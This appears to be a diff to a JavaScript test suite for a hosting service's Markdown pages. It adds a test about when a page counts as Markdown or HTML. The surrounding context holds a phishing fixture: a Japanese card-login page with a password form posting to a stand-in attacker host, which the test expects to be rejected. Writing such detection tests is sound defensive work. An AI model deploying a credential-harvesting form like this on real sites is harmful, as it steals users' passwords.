@@ -72,6 +72,14 @@ describe('pages of Markdown', () => {
     expect(await update(id, { htmlContent: '# 1', format: 'html' })).toMatchObject({ version: 5 });
   });
 
+  it('stay Markdown also if they begin with a tag, until a whole page replaces them', async () => {
+    const { id } = await sites.createSite({ htmlContent: '<b>1</b>\n\n# 1', format }, { accountId });
+    await update(id, { htmlContent: '<b>1</b>\n\n# 2' });
+    expect((await getVersion(id, 2)).version.format).toBe(format);
+    await update(id, { htmlContent: '<!doctype html><p>3' });
+    expect((await getVersion(id, 3)).version.format).toBeUndefined();
+  });
+
   it('are checked as viewers see them', async () => {
     const phishing = '# 楽天カード ログイン\n\n> <form action="https://evil.example"><input\n> type="password"></form>';
     await expect(sites.createSite({ htmlContent: phishing, format }, { accountId })).rejects.toMatchObject({
